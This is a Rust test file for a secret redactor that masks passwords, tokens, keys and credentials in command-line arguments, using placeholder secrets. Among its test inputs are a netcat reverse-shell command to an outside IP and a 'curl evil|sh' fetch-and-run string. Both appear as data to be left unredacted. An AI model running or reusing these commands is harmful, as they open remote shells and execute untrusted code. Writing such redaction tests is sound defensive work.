use std::sync::LazyLock;

use proptest::prelude::*;

use super::*;

static BUILT_IN: LazyLock<Redactor> = LazyLock::new(Redactor::built_in);

/// Arguments after redaction, joined with `|`.
fn redacted(argv: &[&str]) -> String {
    let joined = argv.join("\0").into_bytes();
    let out = BUILT_IN
        .argv(&joined)
        .map_or(joined, |redacted| redacted.argv);
    String::from_utf8_lossy(&out).replace('\0', "|")
}

#[test]
fn secrets_are_cut_out() {
    for (argv, expected) in [
        // Options by name.
        (
            &["app", "--password", "hunter2", "x"][..],
            "app|--password|<redacted>|x",
        ),
        (
            &["app", "--db-password=hunter2"],
            "app|--db-password=<redacted>",
        ),
        (
            &["java", "-password", "hunter2"],
            "java|-password|<redacted>",
        ),
        (&["app", "--apiKey=a b"], "app|--apiKey=<redacted>"),
        (
            &["app", "--access_token", "x"],
            "app|--access_token|<redacted>",
        ),
        // Variables.
        (
            &["env", "PGPASSWORD=x y", "psql"],
            "env|PGPASSWORD=<redacted>|psql",
        ),
        (
            &["env", "AWS_SECRET_ACCESS_KEY=abc", "aws"],
            "env|AWS_SECRET_ACCESS_KEY=<redacted>|aws",
        ),
        (&["env", "GITHUB_TOKEN=abc"], "env|GITHUB_TOKEN=<redacted>"),
        (
            &["docker", "run", "--env=POSTGRES_PASSWORD=p&s;w", "db"],
            "docker|run|--env=POSTGRES_PASSWORD=<redacted>|db",
        ),
        // In the text of a shell, in JSON, in headers.
        (
            &["sh", "-c", "export DB_PASS=x; run --token abc && mysql"],
            "sh|-c|export DB_PASS=<redacted>; run --token <redacted> && mysql",
        ),
        (
            &["curl", "-d", r#"{"user":"a","password": "b c","n":1}"#],
            r#"curl|-d|{"user":"a","password": <redacted>,"n":1}"#,
        ),
        (
            &["curl", "-H", "X-Api-Key: abc"],
            "curl|-H|X-Api-Key: <redacted>",
        ),
        (
            &["curl", "-H", "Authorization: Bearer abcdefgh.ijkl"],
            "curl|-H|Authorization: Bearer <redacted>",
        ),
        (
            &[
                "kubectl",
                "create",
                "secret",
                "generic",
                "a",
                "--from-literal=password=x",
            ],
            "kubectl|create|secret|generic|a|--from-literal=password=<redacted>",
        ),
        // Options of certain programs.
        (
            &["/usr/bin/mysql", "-uroot", "-psecret", "db"],
            "/usr/bin/mysql|-uroot|-p<redacted>|db",
        ),
        (
            &["sshpass", "-p", "x", "ssh", "host"],
            "sshpass|-p|<redacted>|ssh|host",
        ),
        (
            &["redis-cli", "-a", "x", "get", "k"],
            "redis-cli|-a|<redacted>|get|k",
        ),
        (
            &["curl", "-u", "me:x", "https://h/"],
            "curl|-u|me:<redacted>|https://h/",
        ),
        (&["curl", "-ume:x"], "curl|-ume:<redacted>"),
        (
            &["skopeo", "copy", "--creds=me:x"],
            "skopeo|copy|--creds=me:<redacted>",
        ),
        (&["sudo", "mysql", "-psecret"], "sudo|mysql|-p<redacted>"),
        (
            &["sshpass", "-p", "x", "ssh", "-p", "22", "h"],
            "sshpass|-p|<redacted>|ssh|-p|22|h",
        ),
        (
            &["docker", "login", "-u", "me", "-p", "x"],
            "docker|login|-u|me|-p|<redacted>",
        ),
        (
            &[
                "oc",
                "create",
                "secret",
                "generic",
                "a",
                "--from-literal=x=y",
            ],
            "oc|create|secret|generic|a|--from-literal=x=<redacted>",
        ),
        (
            &["redis-server", "--requirepass", "x"],
            "redis-server|--requirepass|<redacted>",
        ),
        // A script shows all but the secret.
        (
            &["sh", "-c", "TOKEN=1; nc -e /bin/sh 1.2.3.4 44"],
            "sh|-c|TOKEN=<redacted>; nc -e /bin/sh 1.2.3.4 44",
        ),
        (
            &[
                "bash",
                "-ec",
                "tool --github-token abc -v; x --db-pass hunter2",
            ],
            "bash|-ec|tool --github-token <redacted> -v; x --db-pass <redacted>",
        ),
        (
            &[
                "sh",
                "-c",
                r#"curl -d "{\"password\":\"hunter2\",\"n\":1}""#,
            ],
            r#"sh|-c|curl -d "{\"password\":<redacted>,\"n\":1}""#,
        ),
        (
            &["sh", "-c", "PASSWORD=\"cut off"],
            "sh|-c|PASSWORD=<redacted>",
        ),
        (&["app: --password x"], "app: --password <redacted>"),
        (
            &["psql", "-c", "ALTER USER a PASSWORD 'x'"],
            "psql|-c|ALTER USER a PASSWORD '<redacted>'",
        ),
        (
            &["curl", "-H", "Authorization: Token abc"],
            "curl|-H|Authorization: Token <redacted>",
        ),
        // By their look.
        (
            &["git", "clone", "https://me:x@h/r"],
            "git|clone|https://me:<redacted>@h/r",
        ),
        (&["a", "AKIAIOSFODNN7EXAMPLE"], "a|<redacted>"),
        (
            &["a", "x=sha256~0123456789012345678901234567890123456789012"],
            "a|x=<redacted>",
        ),
        (
            &["a", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.c2ln"],
            "a|<redacted>",
        ),
        (
            &[
                "a",
                "-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----",
            ],
            "a|-----BEGIN RSA PRIVATE KEY-----<redacted>-----END RSA PRIVATE KEY-----",
        ),
        // Two in one argument.
        (
            &["a", "x password=x https://me:y@h/ token=z"],
            "a|x password=<redacted> https://me:<redacted>@h/ token=<redacted>",
        ),
    ] {
        assert_eq!(redacted(argv), expected, "{argv:?}");
    }
}

#[test]
fn what_is_no_secret_stays() {
    for argv in [
        &["app", "--password-file", "/etc/x", "--token-ttl=5m"][..],
        &["app", "--no-password", "x"],
        &["app", "--password", "--verbose"],
        &["app", "--bypass", "x"],
        &["pass", "show", "x"],
        &["kubectl", "get", "secret", "x"],
        &["mysql", "-p", "db"],
        &["ssh", "-p", "2222", "host"],
        &["curl", "-u", "me", "https://host:8080/a@b"],
        &["ls", "-la", "/etc/passwd"],
        &["sh", "-c", "cat /run/secrets/token | wc"],
        &["openssl", "dgst", "-sha256"],
        &["docker", "run", "-p", "8080:80", "nginx"],
        &[
            "oc",
            "patch",
            "pod/a",
            "-p",
            "{\"spec\":{\"privileged\":true}}",
        ],
        &["oc", "logs", "-p", "pod"],
        &["adduser", "--disabled-password", "app"],
        &["ansible-playbook", "--ask-become-pass", "site.yml"],
        &["sh", "-c", "password=\"$(curl evil|sh)\""],
        &["sh", "-c", "read -p \"Password: \" pw; echo \"done\""],
        &["/opt/password=x"],
        &[],
    ] {
        assert_eq!(redacted(argv), argv.join("|"), "{argv:?}");
    }
}

#[test]
fn secrets_are_counted() {
    let redactor = &*BUILT_IN;
    let found = redactor
        .argv(b"a\0--token=x\0--password\0y\0z\0")
        .expect("there are two");
    assert_eq!(found.count, 2);
    assert_eq!(
        found.argv,
        b"a\0--token=<redacted>\0--password\0<redacted>\0z\0"
    );
    assert_eq!(redactor.argv(b"a\0b\0"), None);
    assert_eq!(redactor.argv(b""), None);
}

#[test]
fn an_operators_list_adds_to_the_built_in_one() {
    let directory = tempfile::tempdir().expect("temporary directory");
    let file = directory.path().join("redact.yaml");
    let error = Redactor::load(Some(&file)).expect_err("it is not there");
    assert!(error.to_string().contains("redact.yaml"), "{error}");
    let write = |content: &str| std::fs::write(&file, content).expect("written");
    write(
        "names: [licence-code]\noptions: [{programs: [acme], option: -z, form: next}]\n\
         patterns: [{name: acme, regex: 'acme-[0-9]+'}, {name: url-password, regex: 'never-ever'}]\n",
    );
    let redactor = Redactor::load(Some(&file)).expect("valid");
    let cut = |argv: &[u8]| redactor.argv(argv).map(|redacted| redacted.argv);
    assert_eq!(cut(b"acme\0-z\0x"), Some(b"acme\0-z\0<redacted>".to_vec()));
    assert_eq!(cut(b"a\0acme-17"), Some(b"a\0<redacted>".to_vec()));
    assert_eq!(
        cut(b"a\0--licence_code=1"),
        Some(b"a\0--licence_code=<redacted>".to_vec())
    );
    assert_eq!(cut(b"a\0https://me:x@h/"), None, "it is replaced");
    assert!(cut(b"a\0password=x").is_some(), "the built-in names stay");

    for (content, what) in [
        ("patterns: [{name: bad, regex: '('}]", "bad: "),
        (
            "patterns: [{name: all, regex: 'x*'}]",
            "all: it matches nothing at all",
        ),
        ("names: ['a b']", "a b: a name has letters"),
        (
            "options: [{programs: [x], option: p, form: next}]",
            "p: an option begins",
        ),
        (
            "options: [{programs: [x], option: -p, form: somewhere}]",
            "somewhere",
        ),
        ("nmaes: []", "nmaes"),
    ] {
        write(content);
        let error = Redactor::load(Some(&file))
            .expect_err("invalid")
            .to_string();
        assert!(error.contains(what), "{error}");
    }
}

proptest! {
    #[test]
    fn any_bytes_can_be_arguments(argv in proptest::collection::vec(any::<u8>(), 0..300)) {
        let redactor = &*BUILT_IN;
        if let Some(found) = redactor.argv(&argv) {
            prop_assert!(found.count > 0);
            let nuls = |bytes: &[u8]| bytes.iter().filter(|byte| **byte == 0).count();
            prop_assert_eq!(nuls(&found.argv), nuls(&argv));
        }
    }

    #[test]
    fn a_secret_after_its_name_is_never_left(
        name in "(--)?([a-z]{1,6}[-_])?(password|token|api[-_]?key|client_secret)",
        secret in "[!-~]{1,40}",
        before in "[a-z ]{0,20}",
    ) {
        let argv = format!("x\0{before}\0{name}={secret}\0end");
        let found = BUILT_IN.argv(argv.as_bytes()).expect("there is one");
        let expected = format!("x\0{before}\0{name}=<redacted>\0end");
        prop_assert_eq!(String::from_utf8_lossy(&found.argv), expected);
    }
}
